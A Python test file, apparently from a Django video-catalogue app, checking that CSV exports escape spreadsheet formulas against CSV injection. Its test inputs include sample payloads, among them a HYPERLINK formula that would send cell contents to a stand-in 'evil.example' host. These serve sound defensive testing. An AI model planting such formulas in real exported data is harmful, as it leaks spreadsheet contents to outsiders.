"""OWASP CSV injection in every CSV we export: a formula at the start of a cell or after a separator
a spreadsheet may split on is escaped (leading quote) and quoted; our own files read back unchanged.

Choice: a leading "-" is escaped even before a plain number ("-5" is written '-5), as OWASP says.
A formula after a separator gets its own quote too: quoting alone does not stop a spreadsheet that
splits our comma-separated lines on ";" (the quotes then stand mid-cell)."""

import csv
import io

import pytest
from django.contrib.admin.helpers import ACTION_CHECKBOX_NAME
from django.urls import reverse

from reports.parsing import RowError, escape_formula, unescape_formula, write_failed_rows
from reports.sheets import SheetRow, parse_edit_sheet, write_edit_sheet
from tests.conftest import channel_id
from tests.reports.test_ingest_helpers import immediate_tasks_fixture, upload  # noqa: F401
from videos.models import Video

from .helpers import a4_bytes, a4_row, errors_of, read, rows_of

DANGEROUS = ['x;=HYPERLINK("http://evil.example/?"&A1)', "a,+1", "b\t-2", "-5", "note\n@SUM(1)"]
HARMLESS = ["plain", "1-2", "a;b", "x, y", "e-mail", "'", "'plain", "a=b"]
TRIGGERS = ("=", "+", "-", "@", "\t", "\r")


def assert_safe_for_any_separator(text: str, values: list[str]):
    """Read as a spreadsheet would with ',', ';' or tab: no cell begins a formula."""
    for separator in (",", ";", "\t"):
        for row in csv.reader(io.StringIO(text), delimiter=separator):
            for cell in row:
                assert not cell.lstrip(" ").startswith(TRIGGERS), (separator, cell)
    cells = [cell for row in csv.reader(io.StringIO(text)) for cell in row]
    for value in values:
        assert escape_formula(value) in cells, value


@pytest.mark.parametrize(
    ("value", "escaped"),
    [
        ('x;=HYPERLINK("…")', "'x;'=HYPERLINK(\"…\")"),
        ("a,+1", "'a,'+1"),
        ("b\t-2", "'b\t'-2"),
        ("-5", "'-5"),
        ("=1;'x; @y", "'=1;''x; '@y"),
        (" =x", "' =x"),
    ],
)
def test_a_formula_at_the_start_or_after_a_separator_is_escaped(value, escaped):
    assert escape_formula(value) == escaped


@pytest.mark.parametrize("value", HARMLESS)
def test_text_without_a_formula_is_not_escaped_unless_it_starts_with_a_quote(value):
    assert escape_formula(value) == ("'" + value if value.startswith("'") else value)


@pytest.mark.parametrize("value", DANGEROUS + HARMLESS + ["'x;=1", "''", "'-5"])
def test_unescape_undoes_escape_exactly(value):
    assert unescape_formula(escape_formula(value)) == value


def test_an_escaped_cell_edited_in_a_spreadsheet_loses_its_escaping_quotes():
    exported = escape_formula("Tracks:\n- one\n- two")
    assert exported == "'Tracks:\n'- one\n'- two"
    assert unescape_formula(exported + "\n- three") == "Tracks:\n- one\n- two\n- three"


def test_failed_rows_csv_escapes_and_quotes_formulas_after_a_separator():
    out = io.StringIO()
    write_failed_rows([RowError(2, "", "", "bad", DANGEROUS)], ["video_id", *DANGEROUS], out)
    assert_safe_for_any_separator(out.getvalue(), DANGEROUS)


def test_a_failed_rows_file_reimports_to_the_original_values():
    data = a4_bytes(a4_row("-aaaaaaaaaa", video_title=DANGEROUS[0], views="-12"))
    reader, items = read(data)
    out = io.StringIO()
    write_failed_rows(errors_of(items), reader.header, out)
    _, again = read(out.getvalue().replace("'-12", "12").encode())
    (row,) = rows_of(again)
    assert (row.video_id, row.remote["title"], row.remote["view_count"]) == ("-aaaaaaaaaa", DANGEROUS[0], 12)


def _video(**overrides):
    video = {"id": "dQw4w9WgXcQ", "title": "t", "description": "d", "tags": ["a"], "notes": ""}
    video.update(overrides)
    return video


def test_edit_sheet_escapes_and_quotes_formulas_after_a_separator():
    out = io.StringIO()
    write_edit_sheet(
        [
            _video(title=DANGEROUS[0], description=DANGEROUS[4], notes=DANGEROUS[1], custom_id=DANGEROUS[2]),
            _video(id="dQw4w9WgXcA", title=DANGEROUS[3]),
        ],
        out,
    )
    assert_safe_for_any_separator(out.getvalue(), DANGEROUS)


def test_an_exported_edit_sheet_with_formulas_reimports_to_the_original_values():
    video = _video(
        title=DANGEROUS[0],
        description=DANGEROUS[4],
        tags=["-5", "a", "+1"],
        notes=DANGEROUS[2],
        custom_id="'x;=1",
        isrc="",
    )
    out = io.StringIO()
    write_edit_sheet([video], out)
    (row,) = list(parse_edit_sheet(io.BytesIO(out.getvalue().encode()), name="sheet.csv"))
    assert isinstance(row, SheetRow)
    assert {name: row.changes[name] for name in ("title", "description", "tags", "notes", "custom_id")} == {
        "title": DANGEROUS[0],
        "description": DANGEROUS[4],
        "tags": ["-5", "a", "+1"],
        "notes": DANGEROUS[2],
        "custom_id": "'x;=1",
    }


@pytest.mark.django_db
@pytest.mark.usefixtures("immediate_tasks")
def test_the_admin_edit_sheet_download_escapes_formulas_after_a_separator(client, alice, catalogue):
    Video.objects.filter(pk="a1song00001").update(title=DANGEROUS[0], description=DANGEROUS[2], notes="-5")
    client.force_login(alice)
    response = client.post(
        reverse("admin:videos_video_changelist"),
        {"action": "export_edit_sheet", ACTION_CHECKBOX_NAME: ["a1song00001", "b1secret001"]},
    )
    text = b"".join(response.streaming_content).decode("utf-8-sig")
    assert "b1secret001" not in text  # charlie's video is not alice's to export
    assert_safe_for_any_separator(text, [DANGEROUS[0], DANGEROUS[2], "-5"])


@pytest.mark.django_db
@pytest.mark.usefixtures("immediate_tasks")
def test_the_failed_rows_download_escapes_formulas_after_a_separator(client, alice, owner_a, channel_a1):
    from reports.services import report_create_from_upload

    out = io.StringIO()
    writer = csv.writer(out)
    writer.writerow(["video_id", "channel_id", "video_title", "video_privacy_status", "embedding_allowed"])
    for number, value in enumerate(DANGEROUS):
        writer.writerow([f"bad{number}", channel_id("a"), value, "public", "True"])
    report = report_create_from_upload(
        uploaded_file=upload("a.csv", out.getvalue().encode()), user=alice, content_owner=owner_a
    )
    client.force_login(alice)
    response = client.get(reverse("admin:reports_report_failed_rows", args=[report.pk]))
    text = b"".join(response.streaming_content).decode("utf-8-sig")
    assert_safe_for_any_separator(text, DANGEROUS)
